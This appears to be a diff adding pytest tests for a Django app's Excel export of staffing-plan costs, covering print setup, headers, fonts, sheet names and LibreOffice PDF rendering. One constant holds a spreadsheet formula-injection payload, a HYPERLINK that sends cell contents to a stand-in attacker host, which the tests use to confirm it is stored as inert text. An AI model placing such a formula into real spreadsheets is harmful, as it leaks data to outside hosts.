@@ -1,0 +1,202 @@
+"""Excel that prints (issue 14): page set-up, header/footer, fonts, sheet names, escapes, years.
+
+The LibreOffice tests render the reference workbook to PDF and count its pages.
+"""
+
+import shutil
+import subprocess
+from datetime import date
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from costing.excel import FONT_NAME, PAGE_NUMBERS, shorten, write_workbook
+from departments.models import OrgUnit
+from stellenplan.models import PayGrade
+from tests.factories import PositionFactory
+
+pytestmark = pytest.mark.usefixtures("seed")
+
+TODAY = date(2012, 3, 15)
+FORMULA = '=HYPERLINK("http://böse.example/?d="&A1;"Klick")'
+
+
+def export(years=(2012, 2013, 2014)) -> bytes:
+    buffer = BytesIO()
+    write_workbook(buffer, list(years), today=TODAY)
+    return buffer.getvalue()
+
+
+def workbook(years=(2012, 2013, 2014)):
+    return load_workbook(BytesIO(export(years)))
+
+
+def test_every_sheet_has_print_area_titles_fit_to_width_and_header_footer():
+    book = workbook()
+    for ws in book.worksheets:
+        end = ws.cell(ws.max_row, ws.max_column)
+        assert str(ws.print_area).endswith(f"!$A$1:${end.column_letter}${end.row}"), ws.title
+        assert ws.print_title_rows == "$4:$4", ws.title
+        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
+        assert ws.page_setup.fitToWidth == 1
+        assert ws.page_setup.fitToHeight == 0
+        assert ws.page_setup.paperSize == 9  # A4
+        assert ws.oddHeader.left.text == str(ws["A1"].value).replace("&", "&&")
+        assert ws.oddHeader.right.text == "Stand: 15.03.2012"
+        assert ws.oddFooter.center.text == PAGE_NUMBERS == "Seite &P von &N"
+    # Wide sheets print landscape.
+    assert book["Stellen"].page_setup.orientation == "landscape"
+    assert book["Übersicht"].page_setup.orientation == "landscape"
+
+
+def test_header_footer_escapes_an_ampersand():
+    unit = OrgUnit.objects.get(code="20")
+    unit.name = "Kämmerei & Steuern"
+    unit.save()
+    book = workbook((2012,))
+    sheet = next(ws for ws in book.worksheets if ws.title.startswith("20 "))
+    assert sheet.oddHeader.left.text == "20 Kämmerei && Steuern – Stellen 2012"
+
+
+def test_one_named_font_everywhere_also_on_bold_cells():
+    book = workbook()
+    fonts = {
+        (cell.font.name, bool(cell.font.b))
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.value is not None
+    }
+    assert {name for name, _bold in fonts} == {FONT_NAME}
+    assert (FONT_NAME, True) in fonts
+
+
+def test_formula_like_text_shows_without_apostrophe_as_a_string():
+    unit = OrgUnit.objects.get(code="20-4")
+    PositionFactory(org_unit=unit, pay_grade=PayGrade.objects.get(code="A 8"), tasks=FORMULA)
+    book = workbook((2012,))
+    cells = [c for row in book["Stellen"].iter_rows() for c in row if c.value == FORMULA]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s" and cells[0].quotePrefix is True
+    # Wrapped like every task cell.
+    assert cells[0].alignment.wrap_text is True
+
+
+def test_tasks_keep_one_task_per_line_and_the_row_grows():
+    unit = OrgUnit.objects.get(code="20-4")
+    tasks = "Buchungen prüfen\nMahnungen schreiben\nKasse abschließen\nBerichte"
+    PositionFactory(
+        org_unit=unit,
+        pay_grade=PayGrade.objects.get(code="A 8"),
+        title="Aufgabenliste",
+        tasks=tasks,
+    )
+    book = workbook((2012,))
+    sheet = book["Stellen"]
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == tasks)
+    assert cell.alignment.wrap_text is True
+    assert sheet.row_dimensions[cell.row].height >= 4 * 15
+    # The header row is as high as its wrapped headers.
+    assert sheet.row_dimensions[4].height >= 2 * 15
+
+
+def test_sheet_names_are_cut_at_a_word_boundary():
+    names = workbook((2012,)).sheetnames
+    assert "WFB Referat Wirtschaft" in names
+    assert all(len(name) <= 31 for name in names)
+    assert shorten("WFB Referat Wirtschaft, Finanzen und Beteiligungen", 31) == (
+        "WFB Referat Wirtschaft"
+    )
+    assert shorten("Kurz", 31) == "Kurz"
+    assert shorten("Donaudampfschifffahrtsgesellschaft", 10) == "Donaudampf"
+
+
+def test_the_years_asked_for_are_the_years_named():
+    one = workbook((2012,))
+    assert one.properties.title == "Stellenplan – Kosten 2012"
+    assert one["Übersicht"]["A1"].value == "Stellenplan – Kostenübersicht 2012"
+    headers = [c.value for c in one["Stellen"][4]]
+    assert "Kosten 2012" in headers and "Kosten 2013" not in headers
+    three = workbook((2012, 2013, 2014))
+    assert three["Übersicht"]["A1"].value == "Stellenplan – Kostenübersicht 2012–2014"
+    assert three["Kostensätze"]["A1"].value.startswith("Kostensätze 2012–2014")
+
+
+def test_the_export_button_names_the_years(client, django_user_model):
+    client.force_login(django_user_model.objects.create_user("leser"))
+    page = client.get(reverse("costs:overview"), {"year": 2012}).content.decode()
+    assert "Excel-Export 2012–2014" in page
+
+
+# --- LibreOffice ---------------------------------------------------------------------------
+
+
+def render_pdf(source: Path, work: Path) -> Path:
+    soffice = shutil.which("soffice") or shutil.which("libreoffice")
+    assert soffice, "LibreOffice (soffice) fehlt: bitte `make system-deps` ausführen."
+    profile = work / "lo-profile"
+    done = subprocess.run(
+        [
+            soffice,
+            f"-env:UserInstallation={profile.as_uri()}",
+            "--headless",
+            "--norestore",
+            "--convert-to",
+            "pdf",
+            "--outdir",
+            str(work),
+            str(source),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+    result = work / (source.stem + ".pdf")
+    assert done.returncode == 0 and result.exists(), done.stdout + done.stderr
+    return result
+
+
+def pdf_pages(pdf: Path) -> list[str]:
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
+    ).stdout
+    return text.split("\f")[:-1] if text.endswith("\f") else text.split("\f")
+
+
+@pytest.mark.libreoffice
+def test_the_reference_export_prints_on_at_most_ten_pages_each_sheet_page_wide(tmp_path):
+    unit = OrgUnit.objects.get(code="20-4")
+    PositionFactory(
+        org_unit=unit,
+        pay_grade=PayGrade.objects.get(code="A 8"),
+        title="Formeltext",
+        tasks=FORMULA,
+    )
+    source = tmp_path / "Stellenplan_Kosten_2012-2014.xlsx"
+    source.write_bytes(export())
+    pages = pdf_pages(render_pdf(source, tmp_path))
+    assert 1 <= len(pages) <= 10, len(pages)
+    # Every page carries the page header (Stand) and its number "Seite x von y".
+    for number, page in enumerate(pages, 1):
+        assert "Stand: 15.03.2012" in page
+        assert f"Seite {number} von {len(pages)}" in page
+    # Each sheet fits its page width: the first and the last column header of a sheet are on
+    # the same page; each Amt/Referat sheet is one page.
+    book = load_workbook(source)
+    for ws in book.worksheets:
+        first_header, last_header = ws.cell(4, 1).value, ws.cell(4, ws.max_column).value
+        title = ws["A1"].value
+        own = [p for p in pages if title in p]
+        assert own, title
+        # (first words: a wrapped header spans lines in the text)
+        assert first_header.split()[0] in own[0], ws.title
+        assert last_header.split()[0] in own[0], ws.title
+        if ws.title[:2].isdigit() or ws.title.startswith("WFB"):
+            assert len(own) == 1, ws.title
+    # The formula-like text shows as it is: no apostrophe, not evaluated.
+    text = "".join(pages)
+    assert "=HYPERLINK(" in text
+    assert "'=HYPERLINK" not in text
